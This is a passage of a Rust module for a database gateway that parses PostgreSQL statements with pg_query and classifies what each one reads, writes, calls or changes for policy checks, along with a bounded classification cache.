//! Statement classification with PostgreSQL's own grammar (pg_query).
//!
//! Every simple Query and every Parse is parsed by the real PostgreSQL parser (libpg_query), so
//! comments, dollar quotes, `U&"..."` identifiers, `E'...'` strings, quoted keywords and odd
//! white space are read exactly as the server reads them, and every statement of a multi-statement
//! text is seen. Text the parser refuses is a [`ClassifyError`], and the gateway refuses it too.
//!
//! The parse tree is walked generically: it is serialized (every pg_query node derives
//! `serde::Serialize`) into a small tree of named nodes, and the walk visits every field of every
//! node, so nothing nested escapes (subqueries anywhere, CTEs, LATERAL, UNION branches, function
//! arguments, ON CONFLICT, RETURNING, DEFAULT expressions, rule actions, SQL function bodies,
//! node types added by future PostgreSQL versions). pg_query's own `nodes()` iterator is not used:
//! it covers a subset of node types (no PREPARE, DO, CREATE FUNCTION bodies, ON CONFLICT SET
//! lists, column defaults, ...).
//!
//! What the classification assumes of the session (the proxy must make it true):
//! - `standard_conforming_strings` is on and `client_encoding` is UTF8: under other settings the
//!   server splits a text differently than this parser. Statements that set either to another
//!   value are refused here; the proxy pins both at startup and should watch ParameterStatus.
//! - Unqualified relation names resolve to `public` (or `pg_catalog` for `pg_*` names, which
//!   PostgreSQL searches first): a session whose `search_path` names other schemas first defeats
//!   table rules. [`Statement::settings`] names every setting a statement changes, so the proxy
//!   can pin `search_path` too.
//!
//! Writes (`Statement::writes`) follow what PostgreSQL refuses in a read-only transaction (DML,
//! DDL, COPY FROM, data-modifying CTEs, `SELECT ... FOR UPDATE/SHARE` and the other locking
//! reads, `SELECT INTO`, `LOCK` stronger than ROW EXCLUSIVE, ...), plus what it lets through
//! there but changes state: any function that is not on a built-in allowlist of read-only
//! functions (so `nextval`, `setval`, `set_config`, `lo_*` and every user-defined function),
//! operators that are not built-in symbols, DO, CALL, NOTIFY, VACUUM/ANALYZE/CLUSTER/REINDEX,
//! CHECKPOINT, LOAD and ALTER SYSTEM. Functions and operators are trusted by name only when called
//! unqualified or through `pg_catalog`: shadowing a built-in name takes DDL.

use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasher, BuildHasherDefault, Hasher, RandomState};
use std::sync::{Arc, Mutex, OnceLock, PoisonError};

use agentgate_crds::policy::StatementKind;
use pg_query::protobuf;

use tree::V;

/// Longest text the [`Classifier`] caches; longer texts are classified every time, so the cache
/// holds at most `capacity` entries of about twice this size.
pub const MAX_CACHED_TEXT: usize = 16 * 1024;

/// Every statement of one simple-Query or Parse text.
#[derive(Debug, Clone, PartialEq)]
pub struct Classified {
    /// In order; empty for a text without statements (white space, comments, `;`).
    pub statements: Vec<Statement>,
}

/// One statement, and everything it would do.
#[derive(Debug, Clone, PartialEq)]
pub struct Statement {
    /// `[0]` is the statement's own, most specific kind (`Drop`, never `Ddl`); then the kinds of
    /// everything it would also execute: data-modifying CTEs and other nested DML, the statement
    /// EXPLAIN ANALYZE or PREPARE wraps, `SetRole`/`Set` for `set_config` calls, `Create` for
    /// `SELECT INTO`. Deduplicated.
    pub kinds: Vec<StatementKind>,
    /// The statement's own source text (leading comments included), trimmed.
    pub text: String,
    /// Every relation touched: through CTEs, subqueries and views named, DML and DDL targets,
    /// COPY, LOCK, TRUNCATE, GRANT, DROP, COMMENT. `schema.table`, case as PostgreSQL reads it
    /// (unquoted names are lowercase); unqualified names are `public.x`, or `pg_catalog.pg_x` for
    /// `pg_*` names. CTE names are not tables.
    pub tables: Vec<String>,
    /// Every function called anywhere (including CTEs, subqueries, defaults, CALL, and the
    /// functions CREATE TRIGGER and CREATE EVENT TRIGGER attach), by its name without schema.
    pub functions: Vec<String>,
    /// The built-in operator symbols used (`+`, `||`, and `=` for `CASE x WHEN` and `JOIN ...
    /// USING`): PostgreSQL picks an operator by its argument types, so one the database defines
    /// itself under such a symbol (`public.+(int, text)`) may answer them. A session checks
    /// them against the database's own operators.
    pub operators: Vec<String>,
    /// Types named by casts (`x::name`, `CAST(x AS name)`, `name 'literal'`), by name without
    /// schema: a cast runs the cast's function and a domain's checks, which may be the
    /// database's own code. A session checks them against its types with such code.
    pub types: Vec<String>,
    /// Column names referenced anywhere (select lists, conditions, SET and INSERT column lists),
    /// `*` for a star, and for a whole-row reference (`row_to_json(t)`, `SELECT t FROM users t`)
    /// the name itself and the table it stands for (`users`).
    pub columns: Vec<String>,
    /// `q.name` references whose qualifier `q` names a relation (or its alias), as (relation,
    /// name): when `name` is not a column of the relation, PostgreSQL reads it as the function
    /// call `name(q)` over the whole row (`c.row_to_json`).
    pub qualified: Vec<(String, String)>,
    /// Names read as a field of a row: after a qualifier (`o.name`) or a parenthesized value
    /// (`(o).name`). Where the row has no such column PostgreSQL calls the function `name(o)`,
    /// so a session checks them against the database's functions that take a row.
    pub fields: Vec<String>,
    /// The columns among `columns` that are only written (`SET x = ...`, `INSERT INTO t (x)`),
    /// never read.
    pub assigned_only: Vec<String>,
    /// An UPDATE or DELETE, anywhere in the statement, without WHERE (`WHERE CURRENT OF` is one).
    pub without_where: bool,
    /// The statement may write (see the module documentation).
    pub writes: bool,
    /// What the statement reads may be kept where result masking cannot follow it: rows it
    /// writes (INSERT, UPDATE, MERGE, anywhere in it), a relation filled from a query (CREATE
    /// TABLE AS, SELECT INTO), a setting (`set_config`), or code the gateway cannot read (DO,
    /// CALL, a function or operator that is not built in and read-only).
    pub stores: bool,
    /// The statement calls a function or operator that is not built in and read-only: its
    /// results may hold anything it reads, under no column's name.
    pub opaque_calls: bool,
    /// The statement may change or remove relations it does not name: anything `CASCADE`
    /// drops (views over a dropped column or table, the columns of a dropped type, every
    /// relation of a dropped schema, the keys other tables hold), the tables `TRUNCATE ...
    /// CASCADE` empties through their keys, an extension's own tables, and whatever `DROP
    /// OWNED` finds. (Not: the partitions and inheritance children a statement on their parent
    /// reaches, as a read of the parent reads them.)
    pub unnamed_tables: bool,
    /// The statement changes what names or definitions mean to a session that resolved them
    /// before: a rename, ALTER TABLE (columns, inheritance, partitions), SET SCHEMA, CREATE OR
    /// REPLACE VIEW, a rule or a trigger.
    pub reshapes: bool,
    /// The statement makes a view (also inside CREATE SCHEMA).
    pub makes_view: bool,
    /// For COPY.
    pub copy: Option<CopyInfo>,
    /// SQL-level `PREPARE name AS <statement>`, with the inner statement classified (its kinds,
    /// tables, functions, columns and `writes` are also the PREPARE's own).
    pub prepare: Option<(String, Box<Statement>)>,
    /// SQL-level `EXECUTE name`, also inside `EXPLAIN [ANALYZE]` and `CREATE TABLE AS`.
    pub execute: Option<String>,
    /// `DEALLOCATE name` is `Some(Some(name))`; `DEALLOCATE ALL` and `DISCARD ALL` are `Some(None)`.
    pub deallocate: Option<Option<String>>,
    /// `COMMIT AND CHAIN`, `ROLLBACK AND CHAIN`: drops every portal while the session stays in a
    /// transaction. (`ROLLBACK TO SAVEPOINT` drops only those opened since the savepoint, which
    /// the gateway keeps: what it would decide on them the server no longer holds.)
    pub drops_portals: bool,
    /// How the statement ends the transaction's cursors, for those that do: COMMIT (also `END`,
    /// `AND CHAIN`) closes those without `WITH HOLD`; ROLLBACK (also `ABORT`, `ROLLBACK TO
    /// SAVEPOINT`, and PREPARE TRANSACTION, which a holdable cursor makes fail) undoes every
    /// cursor made in it; DISCARD ALL closes every cursor of the session.
    pub ends_cursors: Option<CursorsEnd>,
    /// The parse node, such as `SelectStmt`, `AlterSystemStmt`, `LoadStmt` (guardrails, logs).
    pub node: &'static str,
    /// The cursor a DECLARE, FETCH, MOVE or CLOSE names (empty for `CLOSE ALL`).
    pub cursor: Option<String>,
    /// A DECLARE's cursor is `WITH HOLD`: it outlives its transaction (when that commits).
    pub cursor_hold: bool,
    /// Settings the statement changes when executed (SET, RESET, `set_config`), lowercase; `*`
    /// for RESET ALL, DISCARD ALL and `set_config` with a computed name.
    pub settings: Vec<String>,
}

impl Statement {
    /// The statement's own kind (`kinds[0]`).
    pub fn kind(&self) -> StatementKind {
        self.kinds.first().copied().unwrap_or(StatementKind::Other)
    }
}

/// See [`Statement::ends_cursors`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CursorsEnd {
    Commit,
    Rollback,
    Discard,
}

/// What a COPY moves, and where.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CopyInfo {
    /// COPY FROM (into a table); otherwise COPY TO.
    pub from: bool,
    /// TO/FROM PROGRAM: runs a program on the database server.
    pub program: bool,
    /// TO/FROM a file on the database server (not STDIN/STDOUT, not PROGRAM).
    pub file: bool,
    /// `FORMAT binary` (or the older `BINARY`), which the gateway cannot read as text.
    pub binary: bool,
    /// A `DELIMITER`, `QUOTE` or `ESCAPE` other than the usual ones: the server then escapes or
    /// doubles that character inside values (`4111\ 1111` with `DELIMITER ' '`), so what the
    /// detectors read is no longer the values' text.
    pub reshapes_text: bool,
}

impl CopyInfo {
    /// COPY FROM STDIN: the client sends the data (the COPY sub-protocol).
    pub fn from_stdin(self) -> bool {
        self.from && !self.program && !self.file
    }
}

/// Text the PostgreSQL parser refuses (or that the gateway cannot classify safely).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message}{}", .position.map(|p| format!(" at character {p}")).unwrap_or_default())]
pub struct ClassifyError {
    pub message: String,
    /// 1-based character position, when known.
    pub position: Option<usize>,
}

impl ClassifyError {
    fn new(message: impl Into<String>) -> Self {
        Self {
            message: message.into(),
            position: None,
        }
    }

    fn from_pg(e: pg_query::Error, sql: &str) -> Self {
        match e {
            pg_query::Error::Parse(m) => {
                // pg_query drops the parser's cursor position; the end of input is the one case
                // the message itself locates.
                let position = m.ends_with("at end of input").then(|| sql.chars().count() + 1);
                Self { message: m, position }
            }
            pg_query::Error::Conversion(_) => Self::new("the statement contains a NUL byte"),
            pg_query::Error::Decode(_) => Self::new("the statement is too deeply nested to classify"),
            other => Self::new(other.to_string()),
        }
    }
}

/// The longest SQL text classified. The parse tree of a statement costs some hundred times its
/// text in memory, and any identity with a grant on the connection can send one before a
/// decision; bulk data goes through COPY, whose rows are not statements.
pub const MAX_CLASSIFIED_SQL: usize = 1024 * 1024;

/// Classifies every statement of `sql` (uncached).
pub fn classify(sql: &str) -> Result<Classified, ClassifyError> {
    if sql.len() > MAX_CLASSIFIED_SQL {
        return Err(ClassifyError::new(format!(
            "the statement text is {} bytes, more than the {MAX_CLASSIFIED_SQL} the gateway classifies; load bulk data with COPY",
            sql.len()
        )));
    }
    let parsed = pg_query::parse(sql).map_err(|e| ClassifyError::from_pg(e, sql))?;
    let mut statements = Vec::with_capacity(parsed.protobuf.stmts.len());
    for raw in &parsed.protobuf.stmts {
        let Some(stmt) = &raw.stmt else { continue };
        let node = tree::build(&**stmt)
            .map_err(|e| ClassifyError::new(format!("cannot read the parse tree: {e}")))?;
        let start = usize::try_from(raw.stmt_location).unwrap_or(0);
        let end = match usize::try_from(raw.stmt_len) {
            Ok(0) | Err(_) => sql.len(),
            Ok(len) => start.saturating_add(len).min(sql.len()),
        };
        let text = sql.get(start..end).unwrap_or(sql);
        statements.push(statement(&node, text)?);
    }
    Ok(Classified { statements })
}

/// Classifies one statement's parse tree; `text` is its source.
fn statement(node: &V, text: &str) -> Result<Statement, ClassifyError> {
    let mut a = Analysis::default();
    a.top(node, text)?;
    a.finish(text)
}

// ---------------------------------------------------------------------------------------------
// The cache.

/// Classification with a bounded cache keyed by the exact text.
///
/// Why the exact text and not pg_query's fingerprint (which ignores literal values, so
/// `... WHERE aid = 1` and `... WHERE aid = 2` would share an entry): a fingerprint is not a
/// sound key for this classification. It ignores constants (`set_config('role', ..)` and
/// `set_config('work_mem', ..)` fingerprint alike), the names of prepared statements
/// (`EXECUTE a` and `EXECUTE b`), digits in table names (`orders_2023` and `orders_9999`), the
/// names of temporary tables, and aliases (`SELECT t FROM users t`, a whole-row read, and
/// `SELECT t FROM users u`, a column); and [`Statement::text`] is the text itself, so a hit
/// would need the text split again. A fingerprint still runs the parser: in `benches/sql.rs` it
/// costs about a quarter of a classification (2.3 µs against 9.9 µs for pgbench's SELECT), an
/// exact-text hit about 30 ns. Clients that repeat statements (prepared statements, drivers
/// with parameters, ORMs, health checks) repeat the exact text.
///
/// Bounded: `capacity` entries at most, in shards of two generations each. New entries go to the
/// current generation; when it is full it becomes the previous one (whose entries are dropped),
/// and a hit in the previous generation moves the entry back to the current one, so entries in
/// use stay and the rest age out, at O(1) cost. Texts longer than [`MAX_CACHED_TEXT`] are not
/// cached; errors are not cached.
pub struct Classifier {
    shards: Box<[Mutex<Shard>]>,
    /// Entries per generation per shard; 0 disables the cache.
    generation: usize,
    hasher: RandomState,
}

impl std::fmt::Debug for Classifier {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Classifier")
            .field("entries", &self.len())
            .field("capacity", &(self.generation * 2 * self.shards.len()))
            .finish()
    }
}

/// A `u64` key hashed already (by the classifier's keyed hasher).
#[derive(Default)]
struct PreHashed(u64);

impl Hasher for PreHashed {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        for b in bytes {
            self.0 = self.0.rotate_left(8) ^ u64::from(*b);
        }
    }

    fn write_u64(&mut self, n: u64) {
        self.0 = n;
    }
}

type Map = HashMap<u64, Cached, BuildHasherDefault<PreHashed>>;

struct Cached {
    text: Box<str>,
    value: Arc<Classified>,
}

#[derive(Default)]
struct Shard {
    current: Map,
    previous: Map,
}

impl Shard {
    fn insert(&mut self, key: u64, entry: Cached, generation: usize) {
        if self.current.len() >= generation && !self.current.contains_key(&key) {
            self.previous = std::mem::take(&mut self.current);
        }
        self.current.insert(key, entry);
    }
}

/// First words of the statements that may share a cache entry by shape.
const SHAPED_STATEMENTS: [&str; 7] = ["select", "insert", "update", "delete", "with", "values", "table"];

/// The text with every numeric literal replaced by `0`, when the classification cannot depend on
/// the values of its literals; `None` otherwise. So `... WHERE aid = 1` and `... WHERE aid = 2`
/// (pgbench, any client that inlines numbers) share one cache entry.
///
/// Sound because it is narrow: one DML or SELECT statement (a trailing `;` at most); no string
/// or quoted identifier, dollar quote, comment or backslash anywhere (so no literal but numbers,
/// and no digits inside a name are touched: a digit run counts only when no name character
/// precedes it); no `set_config` (whose string argument decides what it does). Numbers never
/// change what such a statement is, touches or calls: kinds, tables, functions, columns, WHERE
/// and writes come from its structure and names.
pub fn shape(sql: &str) -> Option<String> {
    let body = shape_text(sql);
    if !body.is_ascii()
        || body.contains(['\'', '"', '\\', ';'])
        || body.contains("--")
        || body.contains("/*")
        || body.to_ascii_lowercase().contains("set_config")
    {
        return None;
    }
    let first = body
        .split(|c: char| !c.is_ascii_alphabetic())
        .next()?
        .to_ascii_lowercase();
    if !SHAPED_STATEMENTS.contains(&first.as_str()) {
        return None;
    }
    let bytes = body.as_bytes();
    if bytes
        .iter()
        .enumerate()
        .any(|(i, &b)| b == b'$' && !bytes.get(i + 1).is_some_and(u8::is_ascii_digit))
    {
        return None;
    }
    let mut out = String::with_capacity(body.len());
    let mut prev_name = false;
    let mut in_number = false;
    for &b in bytes {
        let name_char = b.is_ascii_alphanumeric() || b == b'_' || b == b'$';
        if in_number && name_char && !b.is_ascii_digit() {
            // `0x1F`, `1e5`, `1x`: the lexer reads these by their digits (a hex literal, an
            // exponent, trailing junk), so texts that differ only in digits could parse
            // differently, or not at all. Only bare digit runs are shaped.
            return None;
        }
        if b.is_ascii_digit() && (in_number || !prev_name) {
            if !in_number {
                out.push('0');
                in_number = true;
            }
        } else {
            in_number = false;
            out.push(b as char);
        }
        prev_name = name_char && !in_number;
    }
    Some(out)
}

/// The statement of a shaped text: trimmed, without its trailing `;`.
fn shape_text(sql: &str) -> &str {
    sql.trim().trim_end_matches(';').trim_end()
}

impl Classifier {
    /// A classifier caching up to `capacity` texts (0: no cache).
    pub fn new(capacity: usize) -> Self {
        let shards = if capacity >= 1024 { 8 } else { 1 };
        let generation = if capacity == 0 {
            0
        } else {
            (capacity / (2 * shards)).max(1)
        };
        Self {
            shards: (0..shards).map(|_| Mutex::new(Shard::default())).collect(),
            generation,
            hasher: RandomState::new(),
        }
    }

    /// Cached classification of one simple-Query or Parse text.
    pub fn classify(&self, sql: &str) -> Result<Arc<Classified>, ClassifyError> {
        if self.generation == 0 || sql.len() > MAX_CACHED_TEXT {
            return classify(sql).map(Arc::new);
        }
        let shaped = shape(sql);
        let cache_text = shaped.as_deref().unwrap_or(sql);
        // A hit on the shape of another text is that text's classification with this one's text.
        let own_text = |c: Arc<Classified>| -> Arc<Classified> {
            if shaped.is_none() || c.statements.first().is_some_and(|st| st.text == shape_text(sql)) {
                return c;
            }
            let mut mine = Classified::clone(&c);
            if let Some(st) = mine.statements.first_mut() {
                st.text = shape_text(sql).to_string();
            }
            Arc::new(mine)
        };
        let key = self.hasher.hash_one(cache_text);
        // The high bits pick the shard; the map uses the low ones.
        let shard = &self.shards[(key >> 56) as usize % self.shards.len()];
        {
            let mut s = shard.lock().unwrap_or_else(PoisonError::into_inner);
            if let Some(c) = s.current.get(&key)
                && &*c.text == cache_text
            {
                let value = c.value.clone();
                drop(s);
                return Ok(own_text(value));
            }
            if let Some(c) = s.previous.remove(&key)
                && &*c.text == cache_text
            {
                let value = c.value.clone();
                s.insert(key, c, self.generation);
                drop(s);
                return Ok(own_text(value));
            }
        }
        // Classified outside the lock: a slow text does not hold up the shard.
        let value = Arc::new(classify(sql)?);
        if shaped.is_some() && value.statements.len() != 1 {
            // The shape rules admit single statements only; anything else is not cached by shape.
            return Ok(value);
        }
        let entry = Cached {
            text: cache_text.into(),
            value: value.clone(),
        };
        shard
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .insert(key, entry, self.generation);
        Ok(value)
    }

    /// Number of cached texts.
    pub fn len(&self) -> usize {
        self.shards
            .iter()
            .map(|s| {
                let s = s.lock().unwrap_or_else(PoisonError::into_inner);
                s.current.len() + s.previous.len()
            })
            .sum()
    }

    /// Whether nothing is cached.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

// ---------------------------------------------------------------------------------------------
// The walk.

/// What one statement does, gathered while walking its tree.
#[derive(Default)]
struct Analysis<'t> {
    node: &'static str,
    kinds: Vec<StatementKind>,
    tables: Vec<String>,
    functions: Vec<String>,
    operators: Vec<String>,
    types: Vec<String>,
    columns: Vec<String>,
    /// Columns named as assignment targets (each also pushed to `columns`).
    assigned: Vec<&'t str>,
    /// (qualifier, name) of every qualified column reference, resolved into `qualified`.
    qualified_names: Vec<(&'t str, &'t str)>,
    qualified: Vec<(String, String)>,
    fields: Vec<String>,
    /// Aliases of joins, which stand for their relations' columns.
    join_aliases: Vec<&'t str>,
    /// Columns named as `excluded.x`.
    excluded: Vec<&'t str>,
    assigned_only: Vec<String>,
    without_where: bool,
    writes: bool,
    stores: bool,
    opaque_calls: bool,
    unnamed_tables: bool,
    reshapes: bool,
    makes_view: bool,
    copy: Option<CopyInfo>,
    prepare: Option<(String, Box<Statement>)>,
    execute: Option<String>,
    deallocate: Option<Option<String>>,
    drops_portals: bool,
    ends_cursors: Option<CursorsEnd>,
    cursor: Option<String>,
    cursor_hold: bool,
    settings: Vec<String>,
    /// CTE names in scope.
    ctes: Vec<&'t str>,
    /// (alias, relation name) of every relation with an alias.
    aliases: Vec<(&'t str, &'t str)>,
    /// Aliases of FROM items that are not relations (joins, subqueries, functions), and CTE names.
    item_aliases: Vec<&'t str>,
    /// Single-name column references: whole rows when they name a relation.
    single_names: Vec<&'t str>,
    /// Why the statement must be refused although it parses.
    refused: Option<String>,
}

impl<'t> Analysis<'t> {
    fn push_kind(&mut self, k: StatementKind) {
        if !self.kinds.contains(&k) {
            self.kinds.push(k);
        }
    }

    /// The statement's own kind and command-level facts, then everything inside it.
    fn top(&mut self, node: &'t V, text: &str) -> Result<(), ClassifyError> {
        use StatementKind as K;
        self.node = node.name();
        let kind = match self.node {
            "ExplainStmt" => return self.explain(node),
            "PrepareStmt" => return self.prepare(node, text),
            "SelectStmt" => K::Select,
            "InsertStmt" => K::Insert,
            "UpdateStmt" => K::Update,
            "DeleteStmt" => K::Delete,
            "MergeStmt" => K::Merge,
            "CopyStmt" => {
                let from = node.flag("is_from");
                let program = node.flag("is_program");
                let file = !program && !node.str("filename").is_empty();
                // `BINARY` and `WITH BINARY` parse to the same option as `(FORMAT binary)`.
                let binary = node.list("options").iter().any(|o| {
                    o.str("defname").eq_ignore_ascii_case("format")
                        && o.get("arg")
                            .and_then(V::sval)
                            .is_some_and(|f| f.eq_ignore_ascii_case("binary"))
                });
                // Characters that never occur inside the values the detectors look for.
                let reshapes_text = node.list("options").iter().any(|o| {
                    let usual: &[&str] = match o.str("defname").to_ascii_lowercase().as_str() {
                        "delimiter" => &["\t", ",", "|", ";"],
                        "quote" => &["\"", "'"],
                        "escape" => &["\"", "'", "\\"],
                        _ => return false,
                    };
                    o.get("arg").and_then(V::sval).is_none_or(|c| !usual.contains(&c))
                });
                self.copy = Some(CopyInfo {
                    from,
                    program,
                    file,
                    binary,
                    reshapes_text,
                });
                self.writes |= from || program || file;
                K::Copy
            }
            "DoStmt" => {
                self.writes = true;
                self.stores = true;
                self.opaque_calls = true;
                K::Do
            }
            "CallStmt" => {
                self.writes = true;
                self.stores = true;
                K::Call
            }
            "ExecuteStmt" => K::Execute,
            "DeallocateStmt" => {
                self.deallocate = Some((!node.flag("isall")).then(|| node.str("name").to_string()));
                K::Deallocate
            }
            "VariableSetStmt" => self.variable_set(node),
            "VariableShowStmt" => K::Show,
            "TransactionStmt" => {
                use protobuf::TransactionStmtKind as T;
                // Two-phase commit acts beyond this session's own transaction: COMMIT or
                // ROLLBACK PREPARED settles another session's prepared work, and PREPARE
                // TRANSACTION leaves this one's locks held after the client has gone.
                let kind = node.int("kind");
                self.writes |= [
                    T::TransStmtPrepare,
                    T::TransStmtCommitPrepared,
                    T::TransStmtRollbackPrepared,
                ]
                .iter()
                .any(|k| *k as i64 == kind);
                let ends = [T::TransStmtCommit, T::TransStmtRollback]
                    .iter()
                    .any(|k| *k as i64 == kind);
                self.drops_portals |= ends && node.flag("chain");
                self.ends_cursors = match kind {
                    k if k == T::TransStmtCommit as i64 => Some(CursorsEnd::Commit),
                    k if [T::TransStmtRollback, T::TransStmtRollbackTo, T::TransStmtPrepare]
                        .iter()
                        .any(|t| *t as i64 == k) =>
                    {
                        Some(CursorsEnd::Rollback)
                    }
                    _ => None,
                };
                K::Transaction
            }
            "ConstraintsSetStmt" => K::Transaction,
            "ListenStmt" | "UnlistenStmt" => K::Listen,
            "NotifyStmt" => {
                // Other sessions act on notifications.
                self.writes = true;
                K::Notify
            }
            "LockStmt" => {
                // PostgreSQL refuses modes above ROW EXCLUSIVE in read-only transactions.
                let mode = match node.int("mode") {
                    0 => pg_query::LockMode::AccessExclusiveLock as i64,
                    m => m,
                };
                self.writes |= mode > pg_query::LockMode::RowExclusiveLock as i64;
                K::Lock
            }
            "VacuumStmt" => {
                self.writes = true;
                K::Vacuum
            }
            "DiscardStmt" => {
                if node.int("target") == protobuf::DiscardMode::DiscardAll as i64 {
                    // DISCARD ALL is SET SESSION AUTHORIZATION DEFAULT, RESET ALL, DEALLOCATE ALL, ...
                    self.deallocate = Some(None);
                    self.ends_cursors = Some(CursorsEnd::Discard);
                    self.settings.push("*".into());
                    K::SetRole
                } else {
                    K::Other
                }
            }
            // Cursors read: DECLARE is its query, FETCH and MOVE read from it.
            "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt" => {
                self.cursor = Some(node.str("portalname").to_string());
                // PostgreSQL's CURSOR_OPT_HOLD.
                self.cursor_hold = self.node == "DeclareCursorStmt" && node.int("options") & 0x0020 != 0;
                K::Select
            }
            "GrantStmt" | "GrantRoleStmt" => {
                self.writes = true;
                if node.flag("is_grant") {
                    K::Grant
                } else {
                    K::Revoke
                }
            }
            "AlterDefaultPrivilegesStmt" => {
                self.writes = true;
                let grant = node.get("action").is_some_and(|a| a.flag("is_grant"));
                if grant { K::Grant } else { K::Revoke }
            }
            "TruncateStmt" => {
                self.writes = true;
                K::Truncate
            }
            "CommentStmt" | "SecLabelStmt" | "RenameStmt" | "ReassignOwnedStmt" => {
                self.writes = true;
                K::Alter
            }
            "DefineStmt"
            | "IndexStmt"
            | "RuleStmt"
            | "CompositeTypeStmt"
            | "ViewStmt"
            | "ImportForeignSchemaStmt" => {
                self.writes = true;
                K::Create
            }
            n if n.starts_with("Create") => {
                self.writes = true;
                // CREATE TABLE AS and CREATE MATERIALIZED VIEW fill a relation from a query.
                self.stores |= n == "CreateTableAsStmt";
                K::Create
            }
            n if n.starts_with("Alter") => {
                self.writes = true;
                K::Alter
            }
            n if n.starts_with("Drop") => {
                self.writes = true;
                K::Drop
            }
            // LOAD, CHECKPOINT, CLUSTER, REINDEX, REFRESH MATERIALIZED VIEW, and anything the
            // gateway does not know: Other, and assumed to write.
            _ => {
                self.writes = true;
                K::Other
            }
        };
        self.reshapes = match self.node {
            "RenameStmt" | "AlterTableStmt" | "AlterObjectSchemaStmt" | "RuleStmt" | "CreateTrigStmt" => true,
            "ViewStmt" => node.flag("replace"),
            _ => false,
        };
        self.push_kind(kind);
        self.walk(node, "", "");
        Ok(())
    }

    /// SET and RESET: identity changes are SetRole, transaction characteristics Transaction.
    fn variable_set(&mut self, node: &'t V) -> StatementKind {
        use protobuf::VariableSetKind as S;
        let kind = node.int("kind");
        if kind == S::VarResetAll as i64 {
            // PostgreSQL keeps role and session_authorization on RESET ALL; classified as an
            // identity change anyway, so a policy on SetRole sees it.
            self.settings.push("*".into());
            return StatementKind::SetRole;
        }
        if kind == S::VarSetMulti as i64 {
            return StatementKind::Transaction;
        }
        // Setting names are case-insensitive.
        let name = node.str("name").to_ascii_lowercase();
        if kind == S::VarSetValue as i64 {
            let value = node.list("args").first().and_then(const_text);
            self.check_setting(&name, value.as_deref());
        }
        let role = matches!(name.as_str(), "role" | "session_authorization");
        self.settings.push(name);
        if role {
            StatementKind::SetRole
        } else {
            StatementKind::Set
        }
    }

    /// Refuses settings under which the server would read text differently than this parser.
    fn check_setting(&mut self, name: &str, value: Option<&str>) {
        let value = value.map(str::to_ascii_lowercase);
        match name {
            "standard_conforming_strings"
                if !matches!(value.as_deref(), Some("on" | "true" | "yes" | "1")) =>
            {
                self.refused = Some(
                    "standard_conforming_strings cannot be turned off through the gateway: statements are checked as PostgreSQL reads them with it on"
                        .into(),
                );
            }
            "client_encoding" => {
                let clean: Option<String> =
                    value.map(|v| v.chars().filter(char::is_ascii_alphanumeric).collect());
                if !matches!(clean.as_deref(), Some("utf8" | "unicode")) {
                    self.refused = Some(
                        "client_encoding cannot be changed from UTF8 through the gateway: statements are checked as UTF-8 text"
                            .into(),
                    );
                }
            }
            _ => {}
        }
    }

    /// EXPLAIN lists what it plans; EXPLAIN ANALYZE also runs it, so it is everything it runs.
    fn explain(&mut self, node: &'t V) -> Result<(), ClassifyError> {
        let analyze = node
            .list("options")
            .iter()
            .any(|o| o.str("defname").eq_ignore_ascii_case("analyze") && !is_false(o.get("arg")));
        let mut inner = Analysis::default();
        if let Some(query) = node.get("query") {
            inner.top(query, "")?;
        }
        inner.resolve_whole_rows();
        self.kinds = vec![if analyze {
            StatementKind::ExplainAnalyze
        } else {
            StatementKind::Explain
        }];
        self.tables = inner.tables;
        self.functions = inner.functions;
        self.operators = inner.operators;
        self.types = inner.types;
        self.columns = inner.columns;
        self.assigned = inner.assigned;
        self.qualified = inner.qualified;
        self.fields = inner.fields;
        self.opaque_calls = inner.opaque_calls;
        // EXPLAIN [ANALYZE] EXECUTE plans (and runs) the prepared statement; even without
        // ANALYZE it evaluates EXECUTE's arguments, which may call anything.
        let executes = inner.execute.is_some();
        self.execute = inner.execute;
        if analyze || executes {
            for k in inner.kinds {
                self.push_kind(k);
            }
            self.without_where = inner.without_where;
            self.writes = inner.writes;
            self.stores = inner.stores;
            self.settings = inner.settings;
            self.refused = inner.refused;
        } else if inner.opaque_calls {
            // Planning runs the immutable functions a statement calls on constants, and a
            // function of the database's own may be labelled immutable whatever it does:
            // EXPLAIN of one may write as running it would.
            self.writes = inner.writes;
            self.stores = inner.stores;
        }
        Ok(())
    }

    /// PREPARE is what it prepares, and keeps it for EXECUTE.
    fn prepare(&mut self, node: &'t V, text: &str) -> Result<(), ClassifyError> {
        let inner_text = prepared_text(text);
        let inner = match node.get("query") {
            Some(q) => statement(q, &inner_text)?,
            None => return Err(ClassifyError::new("PREPARE without a statement")),
        };
        self.kinds = vec![StatementKind::Prepare];
        for k in &inner.kinds {
            self.push_kind(*k);
        }
        self.tables = inner.tables.clone();
        self.functions = inner.functions.clone();
        self.operators = inner.operators.clone();
        self.types = inner.types.clone();
        self.columns = inner.columns.clone();
        self.assigned_only = inner.assigned_only.clone();
        self.qualified = inner.qualified.clone();
        self.fields = inner.fields.clone();
        self.without_where = inner.without_where;
        self.writes = inner.writes;
        self.stores = inner.stores;
        self.opaque_calls = inner.opaque_calls;
        // Preparing a statement that changes a pinned setting is refused as running it is.
        self.settings = inner.settings.clone();
        self.prepare = Some((node.str("name").to_string(), Box::new(inner)));
        Ok(())
    }

    fn finish(mut self, text: &str) -> Result<Statement, ClassifyError> {
        if let Some(message) = self.refused.take() {
            return Err(ClassifyError::new(message));
        }
        self.resolve_whole_rows();
        if !self.assigned.is_empty() {
            // Named only as often as assigned: never read.
            let mut named: HashMap<&str, isize> = HashMap::new();
            for c in &self.columns {
                *named.entry(c.as_str()).or_default() += 1;
            }
            for a in &self.assigned {
                *named.entry(a).or_default() -= 1;
            }
            let only = self.assigned.iter().filter(|a| named.get(**a) == Some(&0));
            self.assigned_only.extend(only.map(|a| (*a).to_string()));
        }
        dedup(&mut self.tables);
        dedup(&mut self.functions);
        dedup(&mut self.operators);
        dedup(&mut self.types);
        dedup(&mut self.columns);
        dedup(&mut self.assigned_only);
